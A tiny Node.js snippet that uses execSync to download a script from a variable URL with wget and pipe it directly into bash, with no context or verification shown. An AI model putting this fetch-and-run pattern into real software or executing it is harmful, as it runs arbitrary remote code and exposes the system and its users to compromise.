const { execSync } = require('child_process');
execSync(`wget -qO- ${url} | bash`);
